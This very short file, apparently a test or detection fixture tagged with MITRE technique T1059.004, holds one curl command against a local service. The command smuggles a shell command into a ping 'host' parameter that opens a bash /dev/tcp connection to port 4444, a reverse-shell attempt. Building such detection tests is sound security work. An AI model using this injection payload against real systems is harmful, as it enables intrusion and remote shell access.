# workload: python
# technique: T1059.004
# finds: 4444
curl -s "http://127.0.0.1:18081/ping?host=x;bash+-c+'exec+3<>/dev/tcp/127.0.0.9/4444'"
